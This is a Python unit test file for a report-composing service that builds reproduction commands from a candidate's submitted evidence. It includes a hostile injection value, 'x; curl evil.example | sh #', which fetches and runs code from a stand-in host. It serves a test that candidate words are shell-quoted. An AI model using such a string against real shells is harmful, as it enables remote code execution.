"""What evidence adds to a report, and that a report does without it."""

from dataclasses import replace

import pytest

from audition import codec
from audition.adapters.memory import MemoryBlobs
from audition.domain.build import BuildCause
from audition.domain.contract import Contract, Inventory
from audition.domain.evidence import Artifact, ArtifactKind, BuildEvidence, RunEvidence
from audition.domain.probe import Event, ServiceEvidence
from audition.domain.probe_load import LatencyEvidence, LoadSummary
from audition.domain.report import Report
from audition.domain.run import Verdict
from audition.domain.serving import Routes, Serving
from audition.services.compose_report import compose_report
from audition.services.recall import events_of, recall
from audition.services.redact import for_candidate
from tests import factories
from tests.unit.services.world import ALICE, World

LEVEL = LoadSummary(rate_per_second=50, seconds=1, sent=50, good=50, failures={}, p95_ms=9.4)
#: Would run a program of its own if a shell got it as it is.
NASTY = "x; curl evil.example | sh #"


@pytest.fixture
def report(world: World) -> Report:
    """Of a run without a service."""
    return compose_report(world.ports, ALICE, world.graded().id)


def evidence(**more: object) -> RunEvidence:
    return replace(RunEvidence(verdict=Verdict.ACCEPTED, inventory=Inventory(), stages=()), **more)  # type: ignore[arg-type]


def recalled(report: Report, **documents: object) -> Report:
    """The report with these documents in the place of its own."""
    blobs = MemoryBlobs()
    artifacts = tuple(stored(blobs, ArtifactKind(kind), document) for kind, document in documents.items())
    return recall(blobs, replace(report, artifacts=artifacts))


def stored(blobs: MemoryBlobs, kind: ArtifactKind, document: object, fence: int = 1) -> Artifact:
    data = document if isinstance(document, bytes) else codec.to_json(document)
    return factories.make_artifact(kind=kind, digest=blobs.put(data), bytes=len(data), fence=fence)


def lines(report: Report) -> list[str]:
    return [command.line for command in report.reproduction.commands]


def test_facts_about_the_host_are_for_staff(report: Report) -> None:
    full = recalled(report, evidence=evidence(environment={"old_versions": "runc 1.1 (needs 1.2.8)"}))
    assert full.provenance.host == {"old_versions": "runc 1.1 (needs 1.2.8)"}
    assert for_candidate(full).provenance.host == {}


def test_of_several_documents_the_newest_counts(report: Report) -> None:
    blobs = MemoryBlobs()
    artifacts = tuple(
        stored(blobs, ArtifactKind.EVIDENCE, evidence(environment={"fence": str(fence)}), fence)
        for fence in (2, 3, 1)
    )
    assert recall(blobs, replace(report, artifacts=artifacts)).provenance.host == {"fence": "3"}


@pytest.mark.parametrize("data", [b"", b"{}", b"[1]", b'{"verdict": "no such verdict"}'])
def test_evidence_of_another_version_leaves_its_part_empty(report: Report, data: bytes) -> None:
    plain = recalled(report, evidence=data, service=b"no JSON")
    assert (plain.provenance.host, plain.events) == ({}, ())
    assert len(lines(plain)) == 2


def test_events_are_those_of_the_longest_session_with_the_latency_that_was_measured() -> None:
    level = Event(seconds=1.0, name="latency level", detail="25% of capacity")
    service = ServiceEvidence(
        events=(
            Event(seconds=0.5, name="end"),
            level,
            replace(level, seconds=2.0, detail="50% of capacity"),
            Event(seconds=9.0, name="end"),
            Event(seconds=3.0, name="end"),
        ),
        latency=LatencyEvidence(
            levels=(LEVEL, replace(LEVEL, p95_ms=None)),
            calibration_before_p99_ms=1,
            calibration_after_p99_ms=1,
            is_valid=True,
        ),
    )
    assert [(event.seconds, event.detail) for event in events_of(service)] == [
        (1.0, "25% of capacity, p95 9 ms"),
        (2.0, "50% of capacity"),
        (9.0, ""),
    ]


def test_a_service_without_events_has_none() -> None:
    assert events_of(ServiceEvidence()) == ()


def test_commands_hold_a_program_as_a_run_does(report: Report) -> None:
    said = lines(recalled(report, evidence=evidence()))
    assert said[0] == f'echo "{report.provenance.archive_digest}  solution.zip" | sha256sum --check'
    predict = next(line for line in said if " python predict.py" in line)
    for part in ("--network none", "--read-only", "--cap-drop ALL", "--memory ", "--pids-limit ", "--cpus "):
        assert part in predict


def test_a_service_is_built_served_asked_and_stopped_as_its_contract_says(report: Report) -> None:
    serving = Serving(
        port=9000, start=("serve",), grace_seconds=12, routes=Routes(ready="/up", predict="/score")
    )
    seen = evidence(
        inventory=Inventory(contract=Contract(serving=serving)),
        build=BuildEvidence(cause=BuildCause.OK, file="docker/Dockerfile"),
    )
    full = recalled(report, evidence=seen, service=ServiceEvidence(seed=7))
    said = "\n".join(lines(full))

    assert "docker build --file docker/Dockerfile --tag submission ." in said
    assert "--publish 127.0.0.1:9000:9000 submission serve" in said
    assert "curl --include http://127.0.0.1:9000/up" in said
    assert said.endswith("docker stop --time 12 submission")
    assert full.reproduction.seeds == (("Traffic to the service", 7),)
    assert for_candidate(full).reproduction.seeds == ()
    assert for_candidate(full).reproduction.commands == full.reproduction.commands


def test_words_of_the_candidate_are_quoted_for_the_shell(report: Report) -> None:
    serving = Serving(start=(NASTY,), routes=Routes(ready=f"/{NASTY}", predict=f"/{NASTY}"))
    nasty = evidence(
        inventory=Inventory(contract=Contract(predict=(NASTY,), serving=serving)),
        build=BuildEvidence(cause=BuildCause.OK, file=NASTY),
    )
    said = [
        line for line in lines(recalled(report, evidence=nasty, service=ServiceEvidence())) if "evil" in line
    ]

    assert len(said) == 5
    assert all(f"'{NASTY}'" in line or f"/{NASTY}'" in line for line in said)
